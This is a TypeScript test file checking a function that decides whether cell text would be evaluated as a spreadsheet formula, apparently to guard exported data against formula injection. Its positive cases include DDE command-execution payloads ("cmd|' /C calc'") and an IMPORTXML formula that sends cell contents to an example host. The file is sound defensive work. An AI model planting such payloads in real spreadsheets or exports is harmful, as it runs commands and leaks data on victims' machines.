import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { isFormulaText } from '../../shared/reading/formula-text.ts';

describe('what a spreadsheet would work out', () => {
  test.each([
    '=1+1',
    '=cmd()',
    ' =A1',
    '\t=A1',
    '=HYPERLINK("http://example.org","x")',
    '= as before',
    '==A1',
    '＝1+1',
    '＋A1',
    '+A1',
    '-A1',
    '−A1',
    '-1+2',
    '+1+1',
    '-(2*3)',
    '@SUM(A1:B2)',
    '+SUM(A1)*-2',
    '-Sheet1!$A$1',
    `-'Other sheet'!A1`,
    `-2+3+cmd|' /C calc'!A0`,
    `@SUM(1+1)*cmd|' /C calc'!A0`,
    `+cmd|' /C calc'!A0`,
    '-"a"&"b"',
    '+IMPORTXML(CONCAT("http://example.org?v=",CONCATENATE(A2:E2)),"//a/a10")',
  ])('%j', (text) => {
    expect(isFormulaText(text)).toBe(true);
  });
});

describe('what it leaves as it is', () => {
  test.each([
    '- More places from September',
    '-More places, fewer moves',
    '- 45 more placements than a year ago',
    '-5 plans since May',
    '- plan(s) agreed with schools',
    '-increase(s) in demand',
    '- Year 7 (new)',
    '– with a dash',
    '• with a bullet',
    '+ two new schools',
    '+44 1225 713000',
    '+/- 5 places',
    '-Recruitment',
    '-high/medium',
    '--',
    '---',
    '====',
    '=',
    '@SEND team to review',
    '@SEND',
    '- KS2: below national',
    'A1',
    'SUM(A1)',
    '',
    '-',
    '- is it on time?',
  ])('%j', (text) => {
    expect(isFormulaText(text)).toBe(false);
  });

  test('two words side by side after a bullet, whatever they are', () => {
    const word = fc.stringMatching(/^[a-z]{2,12}$/);
    fc.assert(
      fc.property(fc.constantFrom('-', '- ', '+ ', '@'), word, word, (bullet, one, other) => {
        expect(isFormulaText(`${bullet}${one} ${other}`)).toBe(false);
      }),
    );
  });

  test('anything after an equals sign is a formula, however it goes on', () => {
    fc.assert(
      fc.property(
        fc.string(),
        (rest) => isFormulaText(`=${rest}`) === /^=*\s*[^=\s]/.test(rest.normalize('NFKC')),
      ),
    );
  });
});
